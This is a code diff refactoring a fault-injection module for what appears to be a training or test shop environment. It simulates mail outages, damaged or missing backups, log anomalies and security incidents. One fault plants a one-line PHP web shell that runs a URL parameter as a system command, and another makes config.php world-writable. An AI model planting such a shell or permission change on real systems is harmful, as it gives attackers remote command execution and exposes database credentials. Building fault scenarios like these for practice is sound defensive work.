@@ -17,24 +17,12 @@ from pathlib import Path
 
 from cryptography.fernet import Fernet
 
-from demoshop.faults import Fault, flag_fault, process_fault, register, sql_fault
+from demoshop.faults import flags
+from demoshop.faults.kinds import Fault, flag_fault, process_fault, sql_fault
 
 STASH = ".fault_stash"
 BACKLOG_ADDRESS = "queue-backlog-fault@dija-accessories.example"
 DAY = 86400
-
-process_fault("smtp_down", "the shop's SMTP relay is stopped: mail is refused", "smtp")
-flag_fault("mail_dropped", "the SMTP relay accepts mail and silently discards it")
-sql_fault("queue_backlog", "the shop's email queue has mail queued for two hours and a failed message",
-          [f"INSERT INTO {{email_queue}} ({{email_queue.to_address}}, subject, template, {{email_queue.status}}, "
-           f"{{email_queue.attempts}}, last_error, {{email_queue.created_at}}) VALUES "
-           f"('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', {{email_queue.status:queued}}, 3, NULL, "
-           f"{{now}} - INTERVAL 2 HOUR), ('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', "
-           f"{{email_queue.status:queued}}, 3, NULL, {{now}} - INTERVAL 90 MINUTE), ('{BACKLOG_ADDRESS}', "
-           f"'Reset your password', 'password_reset', {{email_queue.status:failed}}, 5, 'connection refused', "
-           f"{{now}} - INTERVAL 1 HOUR)"],
-          [f"DELETE FROM {{email_queue}} WHERE {{email_queue.to_address}} = '{BACKLOG_ADDRESS}'",
-           "ALTER TABLE {email_queue} AUTO_INCREMENT = 1"])
 
 
 # ---- saving and restoring files ------------------------------------------------------------------
@@ -70,7 +58,7 @@ def file_fault(name: str, description: str, change) -> Fault:
         paths = change(stack, dry_run=True)
         save_files(stack, name, paths)
         change(stack, dry_run=False)
-    return register(Fault(name, description, on=on, off=lambda stack: restore_files(stack, name), kind="file"))
+    return Fault(name, description, on=on, off=lambda stack: restore_files(stack, name), kind="file")
 
 
 # ---- backups -------------------------------------------------------------------------------------
@@ -103,10 +91,6 @@ def _stale(data_class: str):
     return change
 
 
-for _class in ("orders", "customers", "products", "full"):
-    file_fault(f"stale_backup_{_class}", f"the newest {_class} backup is three days old (the job stopped)", _stale(_class))
-
-
 def _rewrite_full(transform, keep_checksum: bool = False):
     """Replace the newest full backup by transform(sql, fernet, blob, shape), its mtime kept (and its checksum)."""
     def change(stack, dry_run):
@@ -132,17 +116,9 @@ def _flip_bytes(sql, fernet, blob: bytes, shape) -> bytes:
     return blob[:middle] + bytes(b ^ 0x55 for b in blob[middle:middle + 64]) + blob[middle + 64:]
 
 
-file_fault("corrupt_backup", "the newest full backup is damaged on disk (no longer matches its checksum)",
-           _rewrite_full(_flip_bytes, keep_checksum=True))
-file_fault("unencrypted_backup", "the newest full backup is a plain gzip dump (encryption left out)",
-           _rewrite_full(lambda sql, fernet, blob, shape: gzip.compress(sql)))
 def _cut_off(sql, fernet, blob: bytes, shape) -> bytes:
     """The dump as a job killed half-way left it: it stops inside the orders' INSERT statement."""
     return fernet.encrypt(gzip.compress(sql[: sql.index(f"INSERT INTO `{shape.table('orders')}`".encode()) + 200]))
-
-
-file_fault("truncated_backup", "the newest full backup stops half-way (the dump was cut off), checksum made after",
-           _rewrite_full(_cut_off))
 
 
 def _remove(locate):
@@ -160,11 +136,6 @@ def _month_backup(stack) -> list[Path]:
     return _with_checksum(monthly[-3])
 
 
-file_fault("missing_month", "one monthly full backup (three months ago) was deleted", _remove(_month_backup))
-file_fault("missing_offsite", "the newest full backup was never copied offsite",
-           _remove(lambda stack: _with_checksum(newest_backup(stack, "full", root="offsite"))))
-
-
 # ---- cron, web root ------------------------------------------------------------------------------
 def _stale_heartbeat(stack, dry_run):
     paths = [stack.run_dir / "heartbeats" / stack.shape.heartbeat("backup")]
@@ -178,14 +149,6 @@ def _world_readable_config(stack, dry_run):
     if not dry_run:
         os.chmod(paths[0], 0o666)
     return paths
-
-
-file_fault("stale_heartbeat", "the backup cron job last ran two days ago", _stale_heartbeat)
-file_fault("config_world_readable", "chmod 666 config.php: anyone on the server reads (and writes) the DB password",
-           _world_readable_config)
-register(Fault("upload_webshell", "a PHP file sits in uploads/ (a web shell uploaded through an image form)",
-               on=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").write_text("<?php system($_GET['c']);\n"),
-               off=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").unlink(missing_ok=True)))
 
 
 # ---- logs ----------------------------------------------------------------------------------------
@@ -230,10 +193,46 @@ def log_fault(name: str, description: str, log_name: str, lines) -> Fault:
             log_file.seek(0)
             log_file.writelines(kept)
             log_file.truncate()
-    return register(Fault(name, description, on=on, off=off, kind="log"))
+    return Fault(name, description, on=on, off=off, kind="log")
 
 
-log_fault("fatal_logged", "a PHP Fatal error is written to the PHP error log", "php_errors.log", _fatal)
-log_fault("error_burst", "120 requests answered 500/503 in the access log", "access.log", _error_burst)
-log_fault("request_flood", "one IP made 700 requests in the last half hour", "access.log", _request_flood)
-log_fault("attack_probe", "SQL-injection and path-traversal probes in the access log", "access.log", _attack_probe)
+FAULTS = [
+    # ---- mail
+    process_fault("smtp_down", "the shop's SMTP relay is stopped: mail is refused", "smtp"),
+    flag_fault(flags.MAIL_DROPPED, "the SMTP relay accepts mail and silently discards it"),
+    sql_fault("queue_backlog", "the shop's email queue has mail queued for two hours and a failed message",
+              [f"INSERT INTO {{email_queue}} ({{email_queue.to_address}}, subject, template, {{email_queue.status}}, "
+               f"{{email_queue.attempts}}, last_error, {{email_queue.created_at}}) VALUES "
+               f"('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', {{email_queue.status:queued}}, 3, "
+               "NULL, "
+               f"{{now}} - INTERVAL 2 HOUR), ('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', "
+               f"{{email_queue.status:queued}}, 3, NULL, {{now}} - INTERVAL 90 MINUTE), ('{BACKLOG_ADDRESS}', "
+               f"'Reset your password', 'password_reset', {{email_queue.status:failed}}, 5, 'connection refused', "
+               f"{{now}} - INTERVAL 1 HOUR)"],
+              [f"DELETE FROM {{email_queue}} WHERE {{email_queue.to_address}} = '{BACKLOG_ADDRESS}'",
+               "ALTER TABLE {email_queue} AUTO_INCREMENT = 1"]),
+    # ---- backups
+    *[file_fault(f"stale_backup_{data_class}", f"the newest {data_class} backup is three days old (the job stopped)",
+                 _stale(data_class)) for data_class in ("orders", "customers", "products", "full")],
+    file_fault("corrupt_backup", "the newest full backup is damaged on disk (no longer matches its checksum)",
+               _rewrite_full(_flip_bytes, keep_checksum=True)),
+    file_fault("unencrypted_backup", "the newest full backup is a plain gzip dump (encryption left out)",
+               _rewrite_full(lambda sql, fernet, blob, shape: gzip.compress(sql))),
+    file_fault("truncated_backup", "the newest full backup stops half-way (the dump was cut off), checksum made after",
+               _rewrite_full(_cut_off)),
+    file_fault("missing_month", "one monthly full backup (three months ago) was deleted", _remove(_month_backup)),
+    file_fault("missing_offsite", "the newest full backup was never copied offsite",
+               _remove(lambda stack: _with_checksum(newest_backup(stack, "full", root="offsite")))),
+    # ---- cron, web root
+    file_fault("stale_heartbeat", "the backup cron job last ran two days ago", _stale_heartbeat),
+    file_fault("config_world_readable", "chmod 666 config.php: anyone on the server reads (and writes) the DB password",
+               _world_readable_config),
+    Fault("upload_webshell", "a PHP file sits in uploads/ (a web shell uploaded through an image form)",
+          on=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").write_text("<?php system($_GET['c']);\n"),
+          off=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").unlink(missing_ok=True)),
+    # ---- logs
+    log_fault("fatal_logged", "a PHP Fatal error is written to the PHP error log", "php_errors.log", _fatal),
+    log_fault("error_burst", "120 requests answered 500/503 in the access log", "access.log", _error_burst),
+    log_fault("request_flood", "one IP made 700 requests in the last half hour", "access.log", _request_flood),
+    log_fault("attack_probe", "SQL-injection and path-traversal probes in the access log", "access.log", _attack_probe),
+]
